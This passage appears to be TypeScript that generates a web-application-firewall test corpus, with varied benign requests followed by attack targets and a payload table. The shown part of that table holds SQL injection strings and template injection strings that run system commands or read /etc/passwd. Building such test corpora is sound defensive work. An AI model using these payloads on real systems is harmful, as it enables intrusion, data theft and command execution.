      `/v2/restaurants/${chars(10, ALNUM)}/logo`,
      () => [{ name: 'logo', filename: 'forkful-partner-logo.svg', type: 'image/svg+xml', value: SVG_LOGO }],
      'browser',
    ],
    [
      'lms',
      `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions/self/files`,
      () => [
        { name: 'name', value: 'lab4_titration.pdf' },
        { name: 'file', filename: 'lab4_titration.pdf', type: 'application/pdf', value: PDF },
      ],
      'browser',
    ],
    [
      'lms',
      `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions/self/files`,
      () => [
        {
          name: 'file',
          filename: 'hw7.py',
          type: 'text/x-python',
          value:
            "import os\nimport sys\n\n\ndef main(path):\n    with open(os.path.join(path, 'data.csv')) as f:\n        rows = [l.strip().split(',') for l in f]\n    print(sum(float(r[2]) for r in rows[1:]))\n\n\nif __name__ == '__main__':\n    main(sys.argv[1] if len(sys.argv) > 1 else '.')\n",
        },
      ],
      'browser',
    ],
    [
      'lms',
      `/api/v1/courses/${id(4)}/files`,
      () => [
        {
          name: 'file',
          filename: 'essay2_final.txt',
          type: 'text/plain',
          value:
            'The storming of the Bastille (14 July 1789) was less about the seven prisoners inside than about gunpowder; the crowd wanted arms. Robespierre would later argue that "terror is nothing other than justice, prompt, severe, inflexible"...',
        },
      ],
      'browser',
    ],
    [
      'mail',
      `/v3/lists/${chars(8, ALNUM)}/imports`,
      () => [
        {
          name: 'file',
          filename: 'contacts-export.csv',
          type: 'text/csv',
          value:
            'email,first_name,last_name,tags\nsean.obrien@example.ie,Seán,O\'Brien,"vip,newsletter"\n"smith.jr@example.com",John,"Smith, Jr.",newsletter\nzoe@example.fr,Zoë,Lefèvre,\n',
        },
        { name: 'update_existing', value: 'true' },
      ],
      'sdk',
    ],
    [
      'mail',
      `/v3/brand/logo`,
      () => [{ name: 'logo', filename: 'mailvine-wordmark.svg', type: 'image/svg+xml', value: SVG_LOGO2 }],
      'browser',
    ],
    [
      'pod',
      `/v1/episodes/${id(4)}/transcript`,
      () => [
        { name: 'format', value: 'vtt' },
        {
          name: 'file',
          filename: 'ep142.vtt',
          type: 'text/vtt',
          value:
            "WEBVTT\n\n00:00:01.000 --> 00:00:04.200\n<v Kerri>Welcome back to Night Shift!\n\n00:00:04.300 --> 00:00:09.900\n<v Jo>Today: why we still don't deploy on Fridays... except when we do.",
        },
      ],
      'browser',
    ],
    [
      'pod',
      `/v1/shows/${chars(6, ALNUM)}/artwork`,
      () => [{ name: 'artwork', filename: 'cover-3000x3000.png', type: 'image/png', value: PNG }],
      'browser',
    ],
    [
      'cdp',
      '/v1/imports/events',
      () => [
        {
          name: 'file',
          filename: 'backfill-2026-10.json',
          type: 'application/json',
          value: JSON.stringify([
            {
              type: 'track',
              event: 'Order Completed',
              userId: 'u_1029',
              properties: { revenue: 42.5 },
              timestamp: '2026-10-02T10:00:00Z',
            },
            { type: 'identify', userId: 'u_1029', traits: { plan: 'pro' } },
          ]),
        },
      ],
      'sdk',
    ],
    [
      'chat',
      `/api/v10/channels/${id(18)}/messages`,
      () => [
        {
          name: 'payload_json',
          type: 'application/json',
          value: JSON.stringify({
            content: 'here are the logs from the failing runner 👇',
            attachments: [{ id: 0, filename: 'runner.log' }],
          }),
        },
        {
          name: 'files[0]',
          filename: 'runner.log',
          type: 'text/plain',
          value:
            '+ npm ci\nnpm ERR! code EACCES\nnpm ERR! syscall mkdir\nnpm ERR! path /root/.npm\nnpm ERR! errno -13\n',
        },
      ],
      'browser',
    ],
    [
      'chat',
      '/api/v10/users/@me/avatar',
      () => [{ name: 'avatar', filename: 'me.png', type: 'image/png', value: PNG }],
      'mobile',
    ],
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 25; i++) {
    const [dk, path, parts, st] = t[i % t.length] as [string, string, () => Part[], Style];
    const m = multipart(parts(), st === 'sdk');
    out.push(mk('multipart', 'POST', path, hdrs(D[dk] as Domain, st, m.ct), m.body));
  }
  return out;
}

function ndjson(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const gens: [string, string, () => unknown][] = [
    [
      'cdp',
      '/v1/batch',
      () => ({
        type: 'track',
        event: pick(EVENTS),
        userId: `u_${id(6)}`,
        properties: { path: pick(['/', '/pricing', '/search?q=red+shoes']), value: int(0, 300) },
        timestamp: '2026-11-28T10:00:00Z',
      }),
    ],
    [
      'cdp',
      '/v1/batch',
      () => ({
        type: 'identify',
        anonymousId: uuid(),
        traits: { utm_campaign: 'bf_2026', referrer: 'https://news.ycombinator.com/' },
      }),
    ],
    [
      'mail',
      '/v3/events/ingest',
      () => ({
        event: pick(['delivered', 'open', 'click', 'bounce']),
        email: `user${id(4)}@example.com`,
        url: 'https://acme.com/sale?utm_source=mailvine&utm_medium=email',
        ts: 1795000000 + int(0, 9999),
      }),
    ],
    [
      'lms',
      '/api/v1/courses/2291/gradebook/import',
      () => ({
        sis_user_id: `S${id(7)}`,
        assignment: 'Lab 4',
        score: int(50, 100),
        comment: pick(['Good work!', 'See rubric — units missing', 'Late (-10%)']),
      }),
    ],
    [
      'chat',
      '/api/v10/guilds/9911/import',
      () => ({
        author: pick(['dana', 'li', 'sam']),
        ts: '2026-11-01T12:00:00Z',
        content: pick([...(PROSE.chat as string[]), ...CODE.filter((c) => c[0] === 'chat').map((c) => c[1])]),
      }),
    ],
    [
      'pod',
      '/v1/analytics/downloads',
      () => ({
        episode: id(3),
        ip_hash: chars(16, HEX),
        ua: pick([
          'AppleCoreMedia/1.0.0.22B83 (iPhone; U; CPU OS 18_1 like Mac OS X; en_us)',
          'Spotify/9.0.2 Android/34 (Pixel 8)',
          'Overcast/3.0 (+http://overcast.fm/; iOS podcast app)',
        ]),
        bytes: int(1000000, 80000000),
      }),
    ],
  ];
  for (let i = 0; i < 15; i++) {
    const [dk, path, g] = gens[i % gens.length] as [string, string, () => unknown];
    const lines = Array.from({ length: int(2, 5) }, () => JSON.stringify(g())).join('\n') + '\n';
    out.push(
      mk(
        'ndjson',
        'POST',
        path,
        hdrs(D[dk] as Domain, 'sdk', pick(['application/x-ndjson', 'application/jsonl'])),
        lines,
      ),
    );
  }
  return out;
}

function webhooks(): CorpusRequest[] {
  const stripe = (dk: string, path: string, type: string, obj: Record<string, unknown>): CorpusRequest =>
    mk(
      'webhook',
      'POST',
      path,
      {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        accept: '*/*; q=0.5, application/xml',
        'content-type': 'application/json; charset=utf-8',
        'stripe-signature': `t=${1795000000 + int(0, 99999)},v1=${chars(64, HEX)}`,
        'cache-control': 'no-cache',
      },
      JSON.stringify(
        {
          id: `evt_${chars(24, ALNUM)}`,
          object: 'event',
          api_version: '2024-06-20',
          created: 1795000000 + int(0, 99999),
          data: { object: obj },
          livemode: true,
          pending_webhooks: 1,
          request: { id: `req_${chars(14, ALNUM)}`, idempotency_key: uuid() },
          type,
        },
        null,
        dk === 'food' ? 2 : undefined,
      ),
    );
  const github = (event: string, payload: unknown): CorpusRequest =>
    mk(
      'webhook',
      'POST',
      '/v1/integrations/github/events',
      {
        'user-agent': `GitHub-Hookshot/${chars(7, HEX)}`,
        accept: '*/*',
        'content-type': 'application/json',
        'x-github-event': event,
        'x-github-delivery': uuid(),
        'x-github-hook-id': id(9),
        'x-hub-signature-256': `sha256=${chars(64, HEX)}`,
      },
      JSON.stringify(payload),
    );
  const slackHdrs = (ct: string): Hdrs => ({
    'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
    accept: '*/*',
    'content-type': ct,
    'x-slack-request-timestamp': String(1795000000 + int(0, 99999)),
    'x-slack-signature': `v0=${chars(64, HEX)}`,
  });
  const shopify = (topic: string, payload: unknown): CorpusRequest =>
    mk(
      'webhook',
      'POST',
      '/v3/integrations/shopify/webhooks',
      {
        'user-agent': 'Shopify-Captain-Hook',
        accept: '*/*',
        'content-type': 'application/json',
        'x-shopify-topic': topic,
        'x-shopify-shop-domain': 'acme-outdoor.myshopify.com',
        'x-shopify-hmac-sha256': b64(chars(32, ALNUM)),
        'x-shopify-webhook-id': uuid(),
        'x-shopify-api-version': '2024-10',
      },
      JSON.stringify(payload),
    );
  const twilio = (body: Record<string, string>): CorpusRequest =>
    mk(
      'webhook',
      'POST',
      '/v2/integrations/twilio/sms',
      {
        'user-agent': 'TwilioProxy/1.1',
        accept: '*/*',
        'content-type': 'application/x-www-form-urlencoded; charset=utf-8',
        'x-twilio-signature': b64(chars(20, ALNUM)),
        'i-twilio-idempotency-token': uuid(),
      },
      qs({
        ToCountry: 'US',
        SmsMessageSid: `SM${chars(32, HEX)}`,
        NumMedia: '0',
        From: `+1415555${id(4)}`,
        To: '+14155550100',
        AccountSid: `AC${chars(32, HEX)}`,
        ApiVersion: '2010-04-01',
        ...body,
      }),
    );
  const t: (() => CorpusRequest)[] = [
    () =>
      stripe('market', '/v1/webhooks/stripe', 'invoice.paid', {
        id: `in_${chars(24, ALNUM)}`,
        object: 'invoice',
        amount_paid: int(1000, 90000),
        currency: 'usd',
        customer_email: 'billing@acme.io',
        lines: { data: [{ description: 'Milestone 2 — "Admin dashboard" (50%)', amount: 60000 }] },
        metadata: { order_id: id() },
      }),
    () =>
      stripe('food', '/v2/webhooks/stripe', 'checkout.session.completed', {
        id: `cs_live_${chars(40, ALNUM)}`,
        object: 'checkout.session',
        amount_total: int(1200, 9000),
        customer_details: {
          name: "Pat O'Hara",
          email: 'pat@example.com',
          address: { line1: '12B Elm St.', city: 'Boston' },
        },
        metadata: { order: `FF-${id(5)}`, notes: 'no onions; extra napkins' },
        payment_status: 'paid',
      }),
    () =>
      stripe('market', '/v1/webhooks/stripe', 'charge.dispute.created', {
        id: `dp_${chars(24, ALNUM)}`,
        object: 'dispute',
        amount: 120000,
        reason: 'product_not_received',
        evidence_details: { due_by: 1796000000 },
      }),
    () =>
      github('push', {
        ref: 'refs/heads/main',
        before: chars(40, HEX),
        after: chars(40, HEX),
        repository: { full_name: 'acme/web', html_url: 'https://github.com/acme/web' },
        pusher: { name: 'dana', email: 'dana@acme.io' },
        commits: [
          {
            id: chars(40, HEX),
            message: "fix(export): escape names like O'Brien in CSV\n\nCloses #812",
            modified: ['src/export/csv.ts'],
          },
          {
            id: chars(40, HEX),
            message: 'chore: drop node 18 from CI matrix && bump deps',
            modified: ['.github/workflows/ci.yml'],
          },
        ],
      }),
    () =>
      github('issue_comment', {
        action: 'created',
        issue: { number: 812, title: 'CSV export drops rows', labels: [{ name: 'bug' }] },
        comment: {
          body: "Repro:\n```sql\nSELECT * FROM customers WHERE last_name = 'O''Brien';\n```\nreturns 1 row but the export has 0. @dana /cc",
          user: { login: 'li-wei' },
        },
        repository: { full_name: 'acme/web' },
      }),
    () =>
      github('pull_request', {
        action: 'opened',
        number: 913,
        pull_request: {
          title: 'feat: card automations (move on checklist complete)',
          body: '## What\n- adds `automation.rules`\n- migration `0042_add_rules.sql`\n\n## Test\n`npm test -- --grep automations`',
          head: { ref: 'feat/automations' },
          base: { ref: 'main' },
        },
      }),
    () =>
      mk(
        'webhook',
        'POST',
        '/api/v10/integrations/slack/commands',
        slackHdrs(FORM_CT),
        qs({
          token: chars(24, ALNUM),
          team_id: `T${chars(8, ALNUM).toUpperCase()}`,
          team_domain: 'acme',
          channel_id: `C${chars(9, ALNUM).toUpperCase()}`,
          channel_name: 'eng-oncall',
          user_id: `U${chars(9, ALNUM).toUpperCase()}`,
          user_name: 'dana',
          command: '/remind',
          text: pick([
            'me to drop the old staging table at 5pm',
            '#eng "deploy freeze starts Friday" tomorrow at 9am',
            'me in 20 minutes to ping @li about the root cause',
          ]),
          response_url: `https://hooks.slack.com/commands/T0/${id(12)}/${chars(24, ALNUM)}`,
          trigger_id: `${id(13)}.${id(13)}.${chars(32, HEX)}`,
        }),
      ),
    () =>
      mk(
        'webhook',
        'POST',
        '/api/v10/integrations/slack/events',
        slackHdrs('application/json'),
        JSON.stringify({
          token: chars(24, ALNUM),
          team_id: 'T0ACME01',
          type: 'event_callback',
          event: {
            type: 'message',
            channel: 'C0ENGONC',
            user: 'U0DANA01',
            text: pick([
              'anyone else seeing `ECONNRESET` from the payments API? <https://status.example.com|status page> says all green',
              '<@U0LIWEI1> can you review <https://github.com/acme/web/pull/913|#913>? :pray:',
              'rollback done && error rate back to < 0.1% :tada:',
            ]),
            ts: `${1795000000 + int(0, 99999)}.${id(6)}`,
          },
          event_id: `Ev${chars(10, ALNUM)}`,
        }),
      ),
    () =>
      shopify('orders/create', {
        id: Number(id(12)),
        email: 'jo.nguyen@example.com',
        total_price: '129.90',
        currency: 'USD',
        line_items: [
          { title: 'Trail Runner 2 — "Ember" / 42', quantity: 1, price: '129.90', sku: 'TR2-EMB-42' },
        ],
        note: 'Gift — please no invoice in the box!',
        customer: { first_name: 'Jo', last_name: 'Nguyễn', accepts_marketing: true },
      }),
    () =>
      shopify('checkouts/update', {
        id: Number(id(12)),
        abandoned_checkout_url: `https://acme-outdoor.com/checkouts/${chars(32, HEX)}/recover?key=${chars(32, HEX)}`,
        email: 'sam.k@example.org',
        line_items: [{ title: 'Down Jacket (M) & Beanie bundle', quantity: 1 }],
      }),
    () =>
      twilio({
        Body: pick([
          'STOP',
          "Where's my order?? it's been 50 min",
          'Can you leave it at the back door & text me when here?',
          'YES',
        ]),
      }),
    () =>
      twilio({
        Body: 'Pls cancel order FF-20931 — wrong address (it should be 12B not 21B)',
        FromCity: 'BOSTON',
      }),
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 25; i++) out.push((t[i % t.length] as () => CorpusRequest)());
  return out;
}

function emailTemplate(): string {
  const cta = pick(['Shop the sale', 'Claim my discount', 'Read the issue']);
  return `<!DOCTYPE html>
<html lang="en" xmlns:v="urn:schemas-microsoft-com:vml">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{{ campaign.subject }}</title>
<style>
  body { margin: 0; background: #f4f4f7; font-family: -apple-system, 'Segoe UI', Roboto, sans-serif; }
  .btn { background: #ff6b35; color: #ffffff !important; padding: 12px 24px; border-radius: 6px; text-decoration: none; }
  @media (max-width: 600px) { .col { display: block !important; width: 100% !important; } }
</style>
<!--[if mso]><style>.btn { padding: 0; }</style><![endif]-->
</head>
<body>
<span style="display:none;max-height:0;overflow:hidden">{{ campaign.preview_text }}</span>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">
  <tr><td align="center">
    <img src="https://cdn.mailvine.io/u/acme/logo.png" width="120" alt="Acme Outdoor">
    <h1>Hi {{ contact.first_name | default: "there" }} 👋</h1>
    {% if contact.tags contains "vip" %}<p>As a VIP you get <strong>early access</strong> — 24h before everyone else.</p>{% else %}<p>Our biggest sale of the year starts now.</p>{% endif %}
    {% for product in recommendations limit:3 %}
    <td class="col" width="33%"><a href="{{ product.url }}?utm_source=mailvine&amp;utm_campaign={{ campaign.slug }}"><img src="{{ product.image }}" alt="{{ product.title | escape }}" width="180"></a><p>{{ product.title }} — {{ product.price | money }}</p></td>
    {% endfor %}
    <!--[if mso]><v:roundrect href="https://acme-outdoor.com/sale" style="height:44px;v-text-anchor:middle;width:200px;" arcsize="14%" fillcolor="#ff6b35"><center>${cta}</center></v:roundrect><![endif]-->
    <!--[if !mso]><!--><a class="btn" href="https://acme-outdoor.com/sale?ref=*|UNIQID|*">${cta}</a><!--<![endif]-->
    <p style="font-size:12px;color:#888">You're receiving this because you signed up at acme-outdoor.com. <a href="{{ unsubscribe_url }}">Unsubscribe</a> · <a href="*|UPDATE_PROFILE|*">Preferences</a><br>Acme Outdoor Ltd, 1 Harbour Rd, Bristol BS1 &lt;UK&gt;</p>
    <img src="https://t.mailvine.io/o/{{ message.id }}.gif" width="1" height="1" alt="" style="display:block">
  </td></tr>
</table>
</body>
</html>`;
}

function cmsHtml(): CorpusRequest[] {
  const t: (() => CorpusRequest)[] = [
    () =>
      json(
        'cms-html',
        D.mail as Domain,
        'PUT',
        `/v3/templates/tpl_${chars(6, ALNUM)}`,
        {
          name: pick(['Black Friday 2026', 'Weekly digest', 'Abandoned cart #2']),
          template: {
            html: emailTemplate(),
            text: 'Hi {{ contact.first_name }}, our sale starts now: https://acme-outdoor.com/sale',
          },
        },
        'browser',
      ),
    () =>
      json(
        'cms-html',
        D.mail as Domain,
        'POST',
        '/v3/templates',
        {
          name: 'Plain announcement',
          template: {
            html: '<div style="max-width:560px;margin:auto"><p>Hi *|FNAME|*,</p><p>We\'re moving our office on <b>Dec 5</b> — orders placed after 3pm ship Monday.</p><p>— The Acme team</p><p><a href="*|UNSUB|*">unsubscribe</a></p></div>',
          },
        },
        'browser',
      ),
    () =>
      json('cms-html', D.kanban as Domain, 'PATCH', `/v1/cards/${chars(8, ALNUM)}`, {
        descriptionHtml:
          '<p>Steps to reproduce:</p><ol><li>Open <code>/settings/export</code></li><li>Choose <strong>CSV</strong> &amp; click <em>Export</em></li></ol><p>Expected: file &lt; 5 MB. Actual: 0 rows where name contains <code>\'</code>.</p><blockquote><p>"It worked last week" — customer</p></blockquote>',
      }),
    () =>
      json('cms-html', D.kanban as Domain, 'POST', `/v1/boards/${chars(6, ALNUM)}/pages`, {
        title: 'Team handbook',
        html: '<h2 id="on-call">On-call</h2><ul data-type="taskList"><li data-checked="true">Install PagerDuty app</li><li data-checked="false">Read the <a href="https://wiki.acme.io/runbooks" target="_blank" rel="noopener noreferrer">runbooks</a></li></ul><pre><code class="language-bash">kubectl -n prod get pods | grep -v Running</code></pre>',
      }),
    () =>
      json('cms-html', D.pod as Domain, 'PUT', `/v1/episodes/${id(4)}/show-notes`, {
        html: `<p>${pick(PROSE.pod as string[])
          .replace(/</g, '&lt;')
          .replace(
            />/g,
            '&gt;',
          )}</p><h3>Links</h3><ul><li><a href="https://owasp.org/Top10/" target="_blank" rel="noopener">OWASP Top 10</a></li><li><a href="https://example.com/book?ref=castwave&amp;utm_medium=podcast">The book</a></li></ul><p><strong>Chapters</strong><br>00:00 Intro<br>04:12 Main topic<br>31:40 Q&amp;A</p>`,
      }),
    () =>
      json(
        'cms-html',
        D.lms as Domain,
        'PUT',
        `/api/v1/courses/${id(4)}/pages/week-5-overview`,
        {
          wiki_page: {
            title: 'Week 5 overview',
            body: '<h2>Week 5: Acids &amp; bases</h2><p>Watch before Tuesday:</p><p><iframe style="width: 560px; height: 315px;" src="https://www.youtube-nocookie.com/embed/ANi709MYnWg" width="560" height="315" allowfullscreen="allowfullscreen" allow="accelerometer; encrypted-media; picture-in-picture"></iframe></p><p>Key equation: <img class="equation_image" title="pH = -\\log_{10}[H^+]" src="/equation_images/pH%2520%253D%2520-%255Clog_%257B10%257D%255BH%255E%252B%255D?scale=1" alt="LaTeX: pH = -\\log_{10}[H^+]" data-equation-content="pH = -\\log_{10}[H^+]"></p>',
            published: true,
          },
        },
        'browser',
      ),
    () =>
      json(
        'cms-html',
        D.lms as Domain,
        'POST',
        `/api/v1/courses/${id(4)}/discussion_topics`,
        {
          title: 'Project teams',
          message:
            '<p>Post your team (max 4) below. Format:</p><table border="1"><tbody><tr><th>Team</th><th>Members</th></tr><tr><td>Null Pointers</td><td>Ana, Ben, Chen</td></tr></tbody></table><p><span style="color: #e03e2d;">Deadline: Friday 23:59</span></p>',
          discussion_type: 'threaded',
        },
        'browser',
      ),
    () =>
      json('cms-html', D.market as Domain, 'PUT', `/v1/gigs/${id()}/description`, {
        html: '<h2>What you get</h2><ul><li>✅ Fully responsive site (React + Tailwind)</li><li>✅ Admin panel — add/update/delete products</li><li>✅ Deployment to Vercel or your own server</li></ul><p><em>Not included:</em> copywriting, paid plugins.</p><p>Message me <u>before</u> ordering!</p>',
      }),
    () =>
      json('cms-html', D.food as Domain, 'PUT', `/v2/restaurants/${chars(10, ALNUM)}/about`, {
        html: '<p><strong>Tasty Thai Soho</strong> — family-run since 1998.</p><p>All curries can be made <em>vegan</em> on request. ⚠️ Our kitchen handles peanuts, shellfish &amp; sesame.</p><p><img src="https://cdn.forkful.app/r/tts/kitchen.jpg" alt="Our kitchen" width="600" loading="lazy"></p>',
      }),
    () =>
      json('cms-html', D.chat as Domain, 'PUT', `/api/v10/guilds/${id(18)}/welcome-screen`, {
        description: '<b>Welcome!</b> Read #rules, then say hi in #intros 👋',
        html: '<div class="rules"><h3>Rules</h3><ol><li>Be kind</li><li>No spam / self-promo</li><li>Use <code>```</code> for code blocks</li></ol></div>',
      }),
  ];
  const out: CorpusRequest[] = [];
  for (let i = 0; i < 25; i++) out.push((t[i % t.length] as () => CorpusRequest)());
  return out;
}

function proseKind(): CorpusRequest[] {
  const all: [string, string][] = Object.entries(PROSE).flatMap(([dk, xs]) =>
    xs.map((x): [string, string] => [dk, x]),
  );
  return all.map(([dk, text]) => textEndpoint('prose', dk, text));
}

function i18n(): CorpusRequest[] {
  return I18N.map(([dk, text]) => textEndpoint('i18n', dk, text));
}

function code(): CorpusRequest[] {
  return CODE.map(([dk, text], i) => {
    if (dk === 'lms' && i % 2 === 0) {
      return json(
        'code',
        D.lms as Domain,
        'POST',
        `/api/v1/courses/${id(4)}/assignments/${id(5)}/submissions`,
        {
          submission: {
            submission_type: 'online_text_entry',
            body: pick([
              'Solution attached.',
              'See file — I used the iterative version in the end.',
              'v2 (fixed test 4)',
            ]),
            files: [{ name: pick(['solution.txt', 'answer.md', 'main.txt']), content: text }],
          },
        },
      );
    }
    if (dk === 'cdp' && text.startsWith('```sql')) {
      return json('code', D.cdp as Domain, 'POST', '/v1/audiences', {
        name: 'Churn risk (SQL)',
        type: 'sql',
        sql: text.replace(/```sql\n|\n```/g, ''),
        refresh: 'hourly',
      });
    }
    return textEndpoint('code', dk, text);
  });
}

/** Clean (benign) traffic: realistic requests a WAF should let through. */
function buildClean(): CorpusRequest[] {
  const all = [
    ...restWrite(),
    ...mergePatch(),
    ...jsonPatch(),
    ...jsonApi(),
    ...graphql(),
    ...deletes(),
    ...search(),
    ...forms(),
    ...multiparts(),
    ...ndjson(),
    ...webhooks(),
    ...cmsHtml(),
    ...code(),
    ...proseKind(),
    ...i18n(),
  ];
  return all.map((r, i) => ({ ...r, id: `h10c${i + 1}` }));
}

// ---------------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------------

type Role = 'text' | 'url' | 'file';

interface Target {
  dk: string;
  /** JSON write endpoint per role: path, field name and surrounding benign fields. */
  write: Record<Role, [string, string, Record<string, unknown>]>;
  /** GET endpoint per role: path and query parameter. */
  get: Record<Role, [string, string]>;
  form: [string, string, Record<string, string>];
  upload: string;
  gql: [string, string];
}

const TARGETS: Target[] = [
  {
    dk: 'kanban',
    write: {
      text: ['/v1/cards/Vn3k1aQ9/comments', 'body', { mentions: [] }],
      url: ['/v1/boards/8JqkRz/webhooks', 'callbackURL', { events: ['card.moved'], active: true }],
      file: ['/v1/cards/Vn3k1aQ9/attachments/link', 'path', { name: 'design.pdf' }],
    },
    get: {
      text: ['/v1/search', 'q'],
      url: ['/v1/unfurl', 'url'],
      file: ['/v1/attachments/download', 'file'],
    },
    form: ['/integrations/email-in', 'subject', { from: 'alerts@acme.io', to: 'board+x2PLm0@in.kanbo.io' }],
    upload: '/v1/cards/Vn3k1aQ9/attachments',
    gql: [
      'mutation AddComment($cardId: ID!, $body: String!) { addComment(cardId: $cardId, body: $body) { id } }',
      'body',
    ],
  },
  {
    dk: 'market',
    write: {
      text: ['/v1/conversations/77120/messages', 'text', { attachments: [] }],
      url: ['/v1/portfolio/items', 'externalUrl', { title: 'Landing page redesign' }],
      file: ['/v1/orders/5521/deliveries', 'filePath', { note: 'final files' }],
    },
    get: { text: ['/v1/gigs', 'q'], url: ['/v1/link-preview', 'url'], file: ['/v1/files', 'path'] },
    form: ['/contact', 'message', { name: 'Alex', email: 'alex@example.com' }],
    upload: '/v1/portfolio/items',
    gql: [
      'query SearchGigs($q: String!) { searchGigs(query: $q, first: 20) { edges { node { id title } } } }',
      'q',
    ],
  },
  {
    dk: 'food',
    write: {
      text: [
        '/v2/orders',
        'deliveryNotes',
        { restaurantId: 'rst_tts01', items: [{ menuItemId: 'itm_padth', quantity: 1 }] },
      ],
      url: ['/v2/restaurants/rst_tts01/menu/import', 'sourceUrl', { format: 'csv' }],
      file: ['/v2/menus/export', 'template', { format: 'pdf' }],
    },
    get: {
      text: ['/v2/restaurants/search', 'q'],
      url: ['/v2/images/proxy', 'src'],
      file: ['/v2/menus/print', 'layout'],
    },
    form: ['/checkout/address', 'instructions', { line1: '12 Elm St', city: 'Boston', postcode: '02118' }],
    upload: '/v2/restaurants/rst_tts01/menu/import',
    gql: [
      'mutation Note($orderId: ID!, $note: String!) { setOrderNote(orderId: $orderId, note: $note) { id } }',
      'note',
    ],
  },
  {
    dk: 'lms',
    write: {
      text: ['/api/v1/courses/2291/discussion_topics/4412/entries', 'message', {}],
      url: ['/api/v1/courses/2291/external_tools', 'url', { name: 'Quiz tool', privacy_level: 'public' }],
      file: ['/api/v1/courses/2291/files/copy', 'source_path', { on_duplicate: 'rename' }],
    },
    get: {
      text: ['/api/v1/courses/2291/search', 'search_term'],
      url: ['/api/v1/courses/2291/link_validation', 'url'],
      file: ['/api/v1/courses/2291/files/preview', 'name'],
    },
    form: ['/login/canvas', 'pseudonym_session[unique_id]', { 'pseudonym_session[password]': 'hunter2!' }],
    upload: '/api/v1/courses/2291/files',
    gql: [
      'mutation Entry($topicId: ID!, $message: String!) { createDiscussionEntry(input: { discussionTopicId: $topicId, message: $message }) { discussionEntry { id } } }',
      'message',
    ],
  },
  {
    dk: 'mail',
    write: {
      text: ['/v3/campaigns', 'subject', { name: 'Weekly digest', listId: 'lst_81QxZ' }],
      url: ['/v3/templates/import', 'url', { name: 'Imported template' }],
      file: ['/v3/templates/render', 'layout', { campaignId: 'cmp_81QxZ' }],
    },
    get: {
      text: ['/v3/contacts', 'query'],
      url: ['/v3/utils/fetch-image', 'url'],
      file: ['/v3/assets', 'key'],
    },
    form: ['/subscribe/post', 'FNAME', { EMAIL: 'sam@example.com', u: '9f2c1a' }],
    upload: '/v3/lists/lst_81QxZ/imports',
    gql: [
      'mutation Subject($id: ID!, $subject: String!) { updateCampaign(id: $id, subject: $subject) { id } }',
      'subject',
    ],
  },
  {
    dk: 'pod',
    write: {
      text: ['/v1/shows/nshift/episodes', 'title', { season: 3, episodeType: 'full' }],
      url: ['/v1/shows/import', 'rssUrl', { overwrite: false }],
      file: ['/v1/episodes/142/media', 'sourceFile', { transcode: true }],
    },
    get: { text: ['/v1/episodes', 'q'], url: ['/v1/oembed', 'url'], file: ['/v1/media', 'file'] },
    form: ['/settings/feed', 'title', { explicit: 'no', category: 'Technology' }],
    upload: '/v1/episodes/142/transcript',
    gql: ['query Episodes($q: String!) { episodes(search: $q) { id title } }', 'q'],
  },
  {
    dk: 'cdp',
    write: {
      text: ['/v1/track', 'event', { userId: 'u_102938', properties: { revenue: 12.5 } }],
      url: ['/v1/destinations', 'webhookUrl', { type: 'webhook', enabled: true }],
      file: ['/v1/exports', 'destinationPath', { format: 'parquet' }],
    },
    get: {
      text: ['/v1/profiles', 'q'],
      url: ['/v1/destinations/test', 'endpoint'],
      file: ['/v1/exports/download', 'key'],
    },
    form: ['/v1/p', 'event', { userId: 'u_102938' }],
    upload: '/v1/imports/events',
    gql: ['query Profiles($filter: String!) { profiles(filter: $filter) { id traits } }', 'filter'],
  },
  {
    dk: 'chat',
    write: {
      text: ['/api/v10/channels/20441/messages', 'content', { tts: false, flags: 0 }],
      url: ['/api/v10/channels/20441/webhooks', 'avatar_url', { name: 'deploy-bot' }],
      file: ['/api/v10/channels/20441/attachments/import', 'filename', { size: 1024 }],
    },
    get: {
      text: ['/api/v10/guilds/9911/messages/search', 'content'],
      url: ['/api/v10/embeds/preview', 'url'],
      file: ['/api/v10/attachments', 'filename'],
    },
    form: ['/api/v10/integrations/slack/commands', 'text', { command: '/remind', user_name: 'dana' }],
    upload: '/api/v10/channels/20441/messages',
    gql: ['query Search($content: String!) { searchMessages(content: $content) { id content } }', 'content'],
  },
];

const FAMILY_ROLE: Record<string, Role> = {
  sql: 'text',
  template: 'text',
  command: 'text',
  'path-traversal': 'file',
  ssrf: 'url',
  log4shell: 'text',
  xss: 'text',
};

const PAYLOADS: Record<string, string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' AND SLEEP(5)#",
    '1) UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -',
    "'; WAITFOR DELAY '0:0:5'--",
    '1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)',
    "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "1'||pg_sleep(5)--",
    "admin'/**/OR/**/1=1#",
    '1;DROP TABLE users--',
    "' UNION ALL SELECT username,password_hash FROM users--",
    '1 AND 1=CAST((SELECT current_user) AS int)',
    "x' AND updatexml(1,concat(0x7e,user()),1) AND 'a'='a",
    "' RLIKE SLEEP(3)-- ",
    "1'; EXEC xp_cmdshell('whoami')--",
    "1' ORDER BY 12-- -",
    "') OR ('x')=('x",
    '1 OR 2>1 LIMIT 1 OFFSET 0',
    "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '<%= 7*7 %>',
    '#{7*7}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
